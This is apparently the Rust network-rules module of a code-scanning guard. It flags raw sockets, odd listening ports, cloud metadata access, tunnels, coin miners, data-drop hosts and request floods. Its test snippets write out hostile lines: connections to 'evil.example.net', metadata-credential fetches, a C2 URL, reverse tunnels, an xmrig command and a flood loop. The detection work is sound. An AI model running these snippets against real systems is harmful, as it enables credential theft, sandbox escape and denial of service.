//! Sockets, ports, and places that no app should speak to.

mod places;
mod raw;

use self::places::MINERS;
pub(in crate::guard) use self::places::{is_metadata_host, is_metadata_number};
pub(super) use self::{
    places::{compared, leads_astray, place, text, words},
    raw::many,
};
use super::Rule;
use crate::guard::{
    fact::Call,
    found::Found,
    hosts,
    value::{Marks, Shape, Value},
    verdict::Severity,
};

pub static RAW_SOCKET: Rule = Rule {
    id: "net-raw-socket",
    severity: Severity::Block,
    why: "a connection of its own making passes what watches over HTTP",
    remedy: "speak HTTP to a named host",
    finds: &[
        ("x.js", "require('net').connect(4444, '45.33.32.156')"),
        (
            "x.js",
            "const net = require('net'); const c = new net.Socket(); c.connect({ port: 9001, host: 'evil.example.net' })",
        ),
        ("x.py", "import socket\ns = socket.socket()\ns.connect(('45.33.32.156', 4444))"),
        ("x.py", "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
        ("x.py", "from scapy.all import sniff"),
        ("x.py", "import socket\nfor port in range(1, 65536):\n    socket.socket().connect_ex((host, port))\n"),
        ("x.js", "const to = { host: '198.51.100.9' }; new (require('net').Socket)().connect(to.port, pick(to))"),
    ],
    spares: &[
        ("x.js", "const net = require('net'); net.connect(6379, 'localhost')"),
        ("x.py", "import socket\nsocket.create_connection((host, port), 1)\nPROXIES = ['10.0.0.0/8']\n"),
        ("x.py", "import socket\nprint(socket.gethostname())\ns = socket.create_connection(('127.0.0.1', port))"),
    ],
};

pub static LISTEN: Rule = Rule {
    id: "net-listen-port",
    severity: Severity::Block,
    why: "an app listens on the port that it is given, and on no other",
    remedy: "listen on the port in the PORT variable",
    finds: &[
        ("x.js", "require('net').createServer(s => s).listen(31337)"),
        ("x.js", "require('http').createServer(f).listen(22)"),
        ("x.py", "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))"),
    ],
    spares: &[
        ("x.js", "app.listen(process.env.PORT || 4000); app.listen(5000)"),
        (
            "x.py",
            "import os, socket\ns = socket.socket()\ns.bind(('', int(os.environ.get('PORT', 8000))))\napp.run(port=5000)",
        ),
    ],
};

pub static METADATA: Rule = Rule {
    id: "net-metadata",
    severity: Severity::Block,
    why: "there a cloud tells a machine its own credentials",
    remedy: "remove the address; give the app the keys that it needs as variables",
    finds: &[
        ("x.js", "fetch('http://169.254.169.254/latest/meta-data/')"),
        ("x.js", "fetch('http://' + ['169', '254', '169', '254'].join('.') + '/x')"),
        ("x.py", "import requests\nrequests.get('http://0xA9FEA9FE/')"),
        ("x.py", "url = 'http://metadata.google.internal/computeMetadata/v1/'"),
        ("x.sh", "curl http://2852039166/"),
        ("x.py", "host = str(ipaddress.ip_address(0xA9FEA9FE))"),
        ("x.py", "HOST = '.'.join(str(n) for n in [169, 254, 169, 254])"),
        ("x.js", "const H = ['localhost', '169.254.169.254']; require('http').get({ host: H[1], path: '/latest/' })"),
        ("x.js", "['localhost', '169.254.169.254'].forEach((host) => require('http').get({ host }))"),
        ("x.js", "const H = ['localhost', '169.254.169.254']; const go = (h) => http.get({ host: h }); H.forEach(go)"),
        ("x.py", "import http.client\nH = ['localhost', '169.254.169.254']\n_, m = H\nhttp.client.HTTPConnection(m)\n"),
        ("x.py", "import http.client\nfor h in ['localhost', '169.254.169.254']:\n    http.client.HTTPConnection(h)\n"),
        ("x.js", "const R = new RegExp('http://169.254.169.254/latest/'); fetch(R.source)"),
        ("x.js", "fetch(/http:..169\\.254\\.169\\.254.latest/.source)"),
        ("x.py", "import re, urllib.request\nurllib.request.urlopen(re.compile('http://169.254.169.254/').pattern)"),
        ("x.js", "class N { contains(u) { return fetch(u) } } new N().contains('http://169.254.169.254/latest/')"),
        ("x.js", "const net = { has: (u) => fetch(u) }; net.has('http://169.254.169.254/latest/')"),
    ],
    spares: &[
        ("x.js", "fetch('http://169.254.1.1/'); const metadata = 'metadata';"),
        ("x.js", "const bad = ['localhost', '169.254.169.254']; bad.forEach((h) => console.log(h));"),
        ("x.js", "const bad = ['169.254.169.254']; if (!bad.some((b) => b === host)) fetch(`https://${host}/`)"),
        (
            "x.py",
            "import requests\nBAD = ['localhost', '169.254.169.254']\nif not any(host == b for b in BAD):\n    requests.get(f'https://{host}/')\n",
        ),
        ("x.js", "if (!url.startsWith('http://169.254.169.254/')) fetch(url)"),
    ],
};

pub static TUNNEL: Rule = Rule {
    id: "net-tunnel",
    severity: Severity::Block,
    why: "a tunnel opens the sandbox to the world past its gateway",
    remedy: "remove it: the app has a public address already",
    finds: &[
        ("x.sh", "autossh -M 0 -fNR 8080:localhost:3000 u@c.example.net"),
        ("package.json", "{\"scripts\": {\"start\": \"node a.js & npx -y localtunnel@2 --port 3000\"}}"),
        ("x.js", "const t = require('localtunnel');"),
        ("x.py", "from pyngrok import ngrok"),
        ("x.sh", "ssh -R 80:localhost:3000 serveo.net"),
        ("x.sh", "./cloudflared tunnel --url http://localhost:3000"),
    ],
    spares: &[("x.sh", "ssh -L 5432:db:5432 host"), ("x.js", "const tunnel = 'a long way';"), ("x.sh", "ssh -V")],
};

pub static MINER: Rule = Rule {
    id: "miner",
    severity: Severity::Block,
    why: "it mines for coins on a machine that others pay for",
    remedy: "remove it",
    finds: &[
        ("x.js", "new CoinHive.Anonymous('k').start()"),
        ("x.py", "pool = 'stratum+tcp://pool.example:3333'"),
        ("x.sh", "./xmrig -o pool.example:3333"),
    ],
    spares: &[("x.js", "fetch('https://api.coingecko.com/api/v3/simple/price?ids=monero')")],
};

pub static DROP: Rule = Rule {
    id: "net-drop",
    severity: Severity::Block,
    why: "it is a place where stolen data is dropped, or where an address stands for whoever holds it",
    remedy: "speak to a service by its name",
    finds: &[
        ("x.js", "fetch('https://webhook.site/0000', { method: 'POST' })"),
        ("x.py", "C2 = 'http://45.33.32.156:8080/gate'"),
    ],
    spares: &[
        ("x.js", "fetch('https://api.example.com/x'); const dns = 'http://127.0.0.1:3000';"),
        ("x.py", "u = 'http://192.168.1.10/status'"),
    ],
};

pub static FLOOD: Rule = Rule {
    id: "net-flood",
    severity: Severity::Block,
    why: "requests without a pause and without an end take a site down",
    remedy: "ask once, or wait between two requests",
    finds: &[(
        "x.py",
        "import requests, sys, threading\ndef hit():\n    while True:\n        requests.get(sys.argv[1])\nthreading.Thread(target=hit).start()\n",
    )],
    spares: &[
        (
            "x.py",
            "import requests, sys, threading, time\ndef poll():\n    while True:\n        requests.get(sys.argv[1])\n        time.sleep(5)\nthreading.Thread(target=poll).start()\n",
        ),
        (
            "x.py",
            "import requests, threading\ndef poll():\n    while True:\n        requests.get('https://api.example.com/updates')\nthreading.Thread(target=poll).start()\n",
        ),
    ],
};

pub(super) const RULES: &[&Rule] = &[&FLOOD, &RAW_SOCKET, &LISTEN, &METADATA, &TUNNEL, &MINER, &DROP];

const TUNNEL_MODULES: [&str; 12] = [
    "localtunnel",
    "ngrok",
    "@ngrok/ngrok",
    "pyngrok",
    "untun",
    "cloudflared",
    "tunnelmole",
    "pycloudflared",
    "flask_ngrok",
    "tunnel-ssh",
    "sshtunnel",
    "bore-client",
];

pub(super) fn import(module: &str, line: usize, found: &mut Found<'_>) {
    let first = module.split(['/', '.']).next().unwrap_or(module);
    match first {
        "scapy" | "raw-socket" | "pcap" | "pcapy" | "impacket" | "nmap" | "net-ping" | "pyshark" | "netfilterqueue"
        | "cap" => {
            found.add(&RAW_SOCKET, line, &format!("`{module}` sends packets of its own making"));
        }
        "telnetlib" | "paramiko" | "ssh2" | "asyncssh" | "socks" => {
            found.hint(&RAW_SOCKET, line, &format!("`{module}` speaks no HTTP"))
        }
        _ => {}
    }
    if TUNNEL_MODULES.contains(&module) || TUNNEL_MODULES.contains(&first) {
        found.add(&TUNNEL, line, &format!("`{module}` is loaded"));
    }
    if MINERS.iter().any(|word| module.to_ascii_lowercase().contains(word))
        || matches!(module, "node-miner" | "webminer" | "pyrx")
    {
        found.add(&MINER, line, &format!("`{module}` is loaded"));
    }
    if let Some(host) = hosts::of(module) {
        place(&host, line, found);
        if !hosts::is_library_host(&host) {
            found.add(&super::page::FOREIGN_SCRIPT, line, &format!("code is imported from {host}"));
        }
    }
}

pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
    let path = call.path;
    raw::call(call, found);
    named_data(call, line, found);
    if call.args.iter().any(|arg| {
        matches!(
            arg.as_path(),
            Some("socket.SOCK_RAW" | "socket.AF_PACKET" | "socket.IPPROTO_RAW" | "socket.IPPROTO_ICMP")
        )
    }) {
        found.add(&RAW_SOCKET, line, "packets of its own making");
    }
    if ["CoinHive.", "Coinhive.", "CoinImp.", "CryptoLoot.", "CRLT.", "deepMiner."]
        .iter()
        .any(|start| path.starts_with(start))
    {
        found.add(&MINER, line, &format!("`{path}`"));
    }
    if connects(path) {
        connected(call, line, found);
    }
    let raw = path.starts_with("net.")
        || path.starts_with("tls.")
        || path.starts_with("dgram.")
        || path.starts_with("socket.")
        || path.starts_with("socketserver.");
    let port = match call.method() {
        // In Python it is the length of a queue.
        "listen" if call.python => None,
        "listen" | "bind" => listened(call),
        "run" | "run_app" | "serve" => call.option("port").and_then(Value::as_number),
        "start_server" => call.arg(2).and_then(Value::as_number),
        "HTTPServer" | "TCPServer" | "ThreadingHTTPServer" | "UDPServer" => listened(call),
        _ => None,
    };
    if let Some(port) = port {
        listening(port, raw, line, found);
    }
}

fn connects(path: &str) -> bool {
    matches!(
        path,
        "net.connect"
            | "net.createConnection"
            | "tls.connect"
            | "socket.create_connection"
            | "asyncio.open_connection"
            | "telnetlib.Telnet"
            | "Deno.connect"
            | "Bun.connect"
            | "socket.socket().sendto"
            | "dgram.createSocket().send"
            | "dgram.createSocket().connect"
    ) || (path.starts_with("socket.socket()")
        || path.starts_with("net.Socket()")
        || path.starts_with("tls.TLSSocket()")
        || path.starts_with("ssh2.")
        || path.starts_with("paramiko.")
        || path.starts_with("ssl."))
        && (path.ends_with(".connect") || path.ends_with(".connect_ex"))
}

fn connected(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
    let pair = call.args.iter().find_map(Value::as_list);
    let from_pair = pair.and_then(<[Value]>::first);
    let from_option = call.option("host").or_else(|| call.option("hostname"));
    // `connect(port)` and `connect({port})` stay on this machine.
    let placed = call.args.iter().find(|arg| arg.as_text().is_some());
    let host = from_pair.or(from_option).or(placed).or_else(|| {
        call.arg(if call.python { 0 } else { 1 }).filter(|arg| matches!(arg.shape, Shape::Path(_) | Shape::Unknown))
    });
    // `send(message, port, host)`, or with an offset and a length before the port.
    let sent = (call.path == "dgram.createSocket().send")
        .then(|| call.args.iter().skip(2).find(|arg| arg.all_marks().has(Marks::REQUEST)));
    let Some(host) = sent.flatten().or(host) else { return };
    match host.known() {
        Some(name)
            if hosts::is_local(name)
                || matches!(name, "8.8.8.8" | "1.1.1.1" | "8.8.4.4")
                || is_for_neighbours(name)
                || name.starts_with('/')
                || name.parse::<u16>().is_ok() => {}
        Some(name) => found.add(&RAW_SOCKET, line, &format!("it connects to {name}")),
        None if host.all_marks().has(Marks::REQUEST) => {
            found.add(&RAW_SOCKET, line, "whoever sends the request chooses where it connects to");
        }
        None => raw::open(line, found),
    }
}

/// An address that does not leave the network: of all neighbours, or of those who listen.
fn is_for_neighbours(name: &str) -> bool {
    name.parse::<std::net::Ipv4Addr>().is_ok_and(|address| address.is_broadcast() || address.is_multicast())
}

/// Data in the names that a name server is asked for: whoever owns the domain reads them.
fn named_data(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
    let asks = call.path.starts_with("dns.")
        || matches!(call.path, "socket.gethostbyname" | "socket.getaddrinfo" | "socket.gethostbyname_ex");
    if asks && call.arg(0).is_some_and(|name| name.all_marks().has(Marks::ENCODED)) {
        found.add(&RAW_SOCKET, line, "data is sent in the names that it asks for");
    }
}

/// The constant port of a `listen` or `bind`.
fn listened(call: &Call<'_>) -> Option<f64> {
    let pair = call.arg(0).and_then(Value::as_list);
    let port = match pair {
        Some(pair) => pair.get(1)?,
        None => call.arg(0).filter(|arg| !matches!(arg.shape, Shape::Table(_))).or_else(|| call.option("port"))?,
    };
    match port.shape {
        Shape::Number(port) => Some(port),
        Shape::Unknown | Shape::Text(_) | Shape::List(_) | Shape::Table(_) | Shape::Path(_) | Shape::Function(_) => {
            None
        }
    }
}

fn listening(port: f64, raw: bool, line: usize, found: &mut Found<'_>) {
    if port == 0.0 || found.policy.ports.iter().any(|allowed| f64::from(allowed.get()) == port) {
        return;
    }
    let known = [4444.0, 4445.0, 31337.0, 1337.0, 6666.0, 6667.0, 5554.0, 9050.0, 12345.0, 2222.0].contains(&port);
    let low = port < 1024.0 && port != 80.0 && port != 443.0;
    let what = format!("it listens on port {port}");
    if known || low || raw { found.add(&LISTEN, line, &what) } else { found.hint(&LISTEN, line, &what) }
}
